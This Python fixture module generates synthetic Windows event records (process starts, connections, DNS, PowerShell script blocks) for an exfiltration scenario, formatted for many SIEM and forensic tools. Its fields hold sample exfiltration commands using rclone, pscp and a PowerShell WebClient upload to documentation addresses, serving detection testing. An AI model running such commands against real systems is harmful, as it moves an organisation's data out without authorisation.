"""Made telemetry: the same three or four facts as every Windows carrier would export them. Names and addresses are documentation ones."""

from __future__ import annotations

import json
from typing import Any
from xml.sax.saxutils import escape, quoteattr

Record = dict[str, Any]

GUID = "{0a1b2c3d-1111-2222-3333-444455556666}"
START = {
    "RuleName": "technique_id=T1048,technique_name=x", "UtcTime": "2026-03-04 05:06:07.890", "ProcessGuid": GUID, "ProcessId": "4711",
    "Image": r"C:\Tools\rclone.exe", "OriginalFileName": "rclone.exe", "CommandLine": r"rclone.exe copy C:\data sftp://192.0.2.1/in",
    "User": r"CORP\ada", "Hashes": "SHA1=00,MD5=" + "0A" * 16 + ",SHA256=" + "1B" * 32,
    "ParentProcessGuid": "{0a1b2c3d-1111-2222-3333-000000000001}", "ParentProcessId": "4000", "ParentImage": r"C:\Windows\System32\cmd.exe",
    "ParentCommandLine": "cmd.exe /c run.bat",
}
CONNECT = {
    "RuleName": "-", "UtcTime": "2026-03-04 05:06:08.123", "ProcessGuid": GUID, "ProcessId": "4711", "Image": r"C:\Tools\rclone.exe",
    "User": r"CORP\ada", "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.1.2.3", "SourceHostname": "-",
    "SourcePort": "50123", "DestinationIsIpv6": "false", "DestinationIp": "192.0.2.1", "DestinationHostname": "drop.example", "DestinationPort": "22",
}
ACCEPT = CONNECT | {
    "Image": r"C:\Windows\System32\OpenSSH\sshd.exe", "ProcessId": "999", "Initiated": "false", "SourceIp": "2001:db8:0:0:0:0:0:9",
    "SourcePort": "40000", "DestinationIp": "fd00:0:0:0:0:0:0:5", "DestinationPort": "22", "DestinationHostname": "-",
}
LOOKUP = {
    "UtcTime": "2026-03-04 05:06:07.950", "ProcessGuid": GUID, "ProcessId": "4711", "QueryName": "g.api.mega.co.nz", "QueryStatus": "0",
    "QueryResults": "type:  5 lu.api.mega.example;::ffff:192.0.2.9;", "Image": r"C:\Tools\rclone.exe", "User": r"CORP\ada",
}
WRITTEN = {
    "UtcTime": "2026-03-04 05:06:06.000", "ProcessGuid": GUID, "ProcessId": "4711", "Image": r"C:\Tools\rclone.exe",
    "TargetFilename": r"C:\Users\ada\AppData\Local\Temp\rclone_test.conf", "CreationUtcTime": "2026-03-04 05:06:06.000", "User": r"CORP\ada",
}
CREATED = {
    "SubjectUserSid": "S-1-5-18", "SubjectUserName": "ada", "SubjectDomainName": "CORP", "NewProcessId": "0x1267", "NewProcessName": r"C:\Tools\pscp.exe",
    "ProcessId": "0xfa0", "CommandLine": "pscp.exe -pw x f.zip u@198.51.100.1:/in/", "ParentProcessName": r"C:\Windows\System32\cmd.exe", "TargetUserName": "-",
}
FILTERED = {
    "ProcessID": "4711", "Application": r"\device\harddiskvolume2\tools\pscp.exe", "Direction": "%%14593", "SourceAddress": "10.1.2.3",
    "SourcePort": "50124", "DestAddress": "198.51.100.1", "DestPort": "22", "Protocol": "6", "LayerName": "%%14611",
}
SCRIPT = {
    "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "$c = New-Object Net.WebClient; $c.UploadData('https://127.0.0.1:4443/', $b)",
    "ScriptBlockId": "11111111-2222-3333-4444-555555555555", "Path": "-",
}

SYSMON, SECURITY, SHELL = "Microsoft-Windows-Sysmon", "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-PowerShell"
CHANNEL = {SYSMON: "Microsoft-Windows-Sysmon/Operational", SECURITY: "Security", SHELL: "Microsoft-Windows-PowerShell/Operational"}
FACTS: dict[str, tuple[str, int, dict[str, str], Record]] = {
    "start": (SYSMON, 1, START, {
        "kind": "process_start", "ts": 1772600767.890, "image": START["Image"], "pid": 4711, "guid": GUID.strip("{}"), "user": r"CORP\ada",
        "command_line": START["CommandLine"], "parent_pid": 4000, "parent_image": START["ParentImage"], "parent_command_line": "cmd.exe /c run.bat"}),
    "connect": (SYSMON, 3, CONNECT, {
        "kind": "net_conn", "ts": 1772600768.123, "image": CONNECT["Image"], "pid": 4711, "guid": GUID.strip("{}"), "local_ip": "10.1.2.3", "local_p": 50123,
        "remote_ip": "192.0.2.1", "remote_p": 22, "proto": "tcp", "initiated": True}),
    "accept": (SYSMON, 3, ACCEPT, {
        "kind": "net_conn", "pid": 999, "local_ip": "fd00::5", "local_p": 22, "remote_ip": "2001:db8::9", "remote_p": 40000, "initiated": False}),
    "lookup": (SYSMON, 22, LOOKUP, {"kind": "dns", "target": "g.api.mega.co.nz", "answers": "lu.api.mega.example,192.0.2.9", "pid": 4711}),
    "written": (SYSMON, 11, WRITTEN, {"kind": "file_create", "target": WRITTEN["TargetFilename"], "pid": 4711, "user": r"CORP\ada"}),
    "created": (SECURITY, 4688, CREATED, {
        "kind": "process_start", "image": r"C:\Tools\pscp.exe", "pid": 4711, "parent_pid": 4000, "user": r"CORP\ada", "command_line": CREATED["CommandLine"]}),
    "filtered": (SECURITY, 5156, FILTERED, {
        "kind": "net_conn", "pid": 4711, "local_ip": "10.1.2.3", "local_p": 50124, "remote_ip": "198.51.100.1", "remote_p": 22, "proto": "tcp", "initiated": True}),
    "created for another": (SECURITY, 4688, CREATED | {"SubjectUserName": "WS1$", "TargetUserName": "bob", "TargetDomainName": "CORP"}, {
        "kind": "process_start", "pid": 4711, "user": r"CORP\bob"}),
    "script": (SHELL, 4104, SCRIPT, {"kind": "script", "target": SCRIPT["ScriptBlockText"]}),
}
STAMP = "2026-03-04T05:06:08.500Z"


def flat(provider: str, event: int, data: dict[str, str]) -> Record:
    """OTRF, NXLog and our lab's shape."""
    return {"EventID": event, "SourceName": provider, "Channel": CHANNEL[provider], "Hostname": "WS1.corp.example", "@timestamp": STAMP} | data


def splunk(provider: str, event: int, data: dict[str, str]) -> Record:
    source = f"XmlWinEventLog:{CHANNEL[provider]}"
    return {"preview": False, "offset": 3, "result": {
        "_time": "2026-03-04 05:06:08.500 UTC", "host": "collector", "Computer": "WS1.corp.example", "source": source, "sourcetype": source,
        "EventCode": str(event)} | data}


def splunk_table(provider: str, event: int, data: dict[str, str]) -> Record:
    """The form of today's Windows add-on: only the source names the log."""
    record = splunk(provider, event, data)
    return record | {"result": record["result"] | {"sourcetype": "XmlWinEventLog"}}


def splunk_raw(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"preview": False, "result": {"_time": "2026-03-04 05:06:08.500 UTC", "host": "collector", "_raw": xml(provider, event, data)}}


def xml(provider: str, event: int, data: dict[str, str]) -> str:
    values = "".join(f"<Data Name={quoteattr(name)}>{escape(value)}</Data>" for name, value in data.items())
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        f"<Provider Name='{provider}' Guid='{{0}}'/><EventID>{event}</EventID><TimeCreated SystemTime='2026-03-04T05:06:08.500000000Z'/>"
        f"<EventRecordID>77</EventRecordID><Execution ProcessID='4711' ThreadID='1'/><Channel>{CHANNEL[provider]}</Channel>"
        f"<Computer>WS1.corp.example</Computer></System><EventData>{values}</EventData></Event>")


def evtx(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"Event": {"System": {
        "Provider": {"#attributes": {"Name": provider}}, "EventID": {"#attributes": {"Qualifiers": ""}, "#text": event},
        "TimeCreated": {"#attributes": {"SystemTime": STAMP}}, "EventRecordID": 77, "Channel": CHANNEL[provider],
        "Computer": "WS1.corp.example"}, "EventData": data}}


def winlogbeat(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"@timestamp": STAMP, "host": {"name": "ws1", "ip": ["10.1.2.3", "fe80::1"]}, "agent": {"id": "a-1"}, "winlog": {
        "channel": CHANNEL[provider], "provider_name": provider, "event_id": str(event), "computer_name": "WS1.corp.example",
        "record_id": 77, "event_data": data, "process": {"pid": 4711}}}


def wazuh(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"timestamp": "2026-03-04T05:06:09.000+0000", "agent": {"id": "7", "name": "WS1", "ip": "10.1.2.3"}, "id": "1.2",
            "rule": {"level": 12, "description": "Upload tool", "id": "92000", "mitre": {"id": ["T1048"]}},
            "data": {"win": {"system": {"providerName": provider, "eventID": str(event), "systemTime": STAMP, "computer": "WS1.corp.example"},
                             "eventdata": {name[:1].lower() + name[1:]: value.replace("\\", "\\\\") for name, value in data.items()}}}}


def wazuh_linux(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"timestamp": STAMP, "agent": {"name": "WS1"}, "id": "1.3", "data": {
        "system": {"providerName": provider, "eventId": str(event), "systemTime": STAMP, "computer": "WS1"},
        "eventdata": {name if name == "DestinationIp" else name[:1].lower() + name[1:]: value for name, value in data.items()}}}


def sentinel(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"TimeGenerated": STAMP, "Provider": provider, "Channel": CHANNEL[provider], "Computer": "WS1.corp.example", "EventID": event,
            "EventData": json.dumps(data), "Type": "WindowsEvent"}


def velociraptor(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"Timestamp": STAMP, "System": {
        "Provider": {"Name": provider, "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}, "EventID": {"Value": event}, "Version": 5, "Level": 4, "Task": event,
        "TimeCreated": {"SystemTime": 1772600768.5}, "EventRecordID": 77, "Correlation": {}, "Execution": {"ProcessID": 8936, "ThreadID": 9100},
        "Channel": CHANNEL[provider], "Computer": "WS1.corp.example", "Security": {"UserID": "S-1-5-18"}}, "EventData": data, "Message": "…"}


def hunter(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"EventTime": STAMP, "Computer": "WS1.corp.example", "Channel": CHANNEL[provider], "Provider": provider, "EventID": event, "EventRecordID": 77,
            "UserSID": "S-1-5-18", "Username": "SYSTEM", "EventData": data, "UserData": None, "Message": "…", "OSPath": r"C:\Windows\x.evtx"}


def evtxecmd(provider: str, event: int, data: dict[str, str]) -> Record:
    payload = {"EventData": {"Data": [{"@Name": name, "#text": value} for name, value in data.items()]}}
    return {"RecordNumber": 5, "EventRecordId": "77", "TimeCreated": "2026-03-04 05:06:08.5000000", "EventId": event, "Level": "Info", "Provider": provider,
            "Channel": CHANNEL[provider], "ProcessId": 3344, "ThreadId": 4100, "Computer": "WS1.corp.example", "UserId": "S-1-5-18", "MapDescription": "x",
            "UserName": "SYSTEM", "Payload": json.dumps(payload)}


def message(event: int, data: dict[str, str]) -> str:
    title = {1: "Process Create", 3: "Network connection detected", 11: "File created", 22: "Dns query"}[event]
    return "\r\n".join([f"{title}:", *(f"{name}: {value}" for name, value in data.items())])


def get_winevent(provider: str, event: int, data: dict[str, str]) -> Record:
    """PowerShell: Get-WinEvent | ConvertTo-Json."""
    return {"Message": message(event, data), "Id": event, "Version": 5, "Level": 4, "RecordId": 77, "ProviderName": provider, "LogName": CHANNEL[provider],
            "ProcessId": 3344, "ThreadId": 4100, "MachineName": "WS1.corp.example", "UserId": {"Value": "S-1-5-18"}, "TimeCreated": "/Date(1772600768500)/",
            "Properties": [{"Value": value} for value in data.values()]}


def fluent_bit(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"date": 1772600769.1, "ProviderName": provider, "EventID": event, "TimeCreated": "2026-03-04 05:06:08 +0000", "EventRecordID": 77, "ProcessId": 3344,
            "Channel": CHANNEL[provider], "Computer": "WS1.corp.example", "Message": message(event, data), "StringInserts": list(data.values())}


def zircolite(provider: str, event: int, data: dict[str, str]) -> Record:
    row = {"EventID": event, "Provider_Name": provider, "Channel": CHANNEL[provider], "Computer": "WS1.corp.example", "SystemTime": STAMP}
    return {"title": "Upload", "id": "r-1", "rule_level": "high", "tags": ["attack.t1048.002"], "count": 1, "matches": [row | data]}


def chainsaw(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"group": "Sigma", "kind": "individual", "document": {"kind": "evtx", "path": "x.evtx", "data": evtx(provider, event, data)},
            "name": "Upload", "timestamp": STAMP, "level": "high", "id": "r-1", "tags": ["attack.t1048.002"]}


def aggregate(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"group": "Sigma", "kind": "aggregate", "documents": [{"kind": "evtx", "path": "x.evtx", "data": evtx(provider, event, data)}],
            "name": "Upload", "timestamp": STAMP, "level": "high", "id": "r-1", "tags": ["attack.t1048.002"]}


def harfanglab(provider: str, event: int, data: dict[str, str]) -> Record:
    return {"log_type": "eventlog", "log_name": CHANNEL[provider], "source_name": provider, "event_id": event, "event_data": data,
            "computer_name": "WS1.corp.example", "@event_create_date": STAMP, "record_number": 77, "agent": {"agentid": "h-1", "hostname": "WS1"}}


CARRIERS = {
    "windows-flat": (flat, splunk, splunk_table), "evtx": (evtx, xml, splunk_raw), "winlogbeat": (winlogbeat,), "wazuh": (wazuh,), "wazuh-linux": (wazuh_linux,),
    "sentinel": (sentinel,), "velociraptor": (velociraptor, hunter), "zircolite": (zircolite,), "chainsaw": (chainsaw,), "chainsaw-aggregate": (aggregate,),
    "harfanglab-eventlog": (harfanglab,), "evtxecmd": (evtxecmd,),
}
MESSAGES = (get_winevent, fluent_bit)
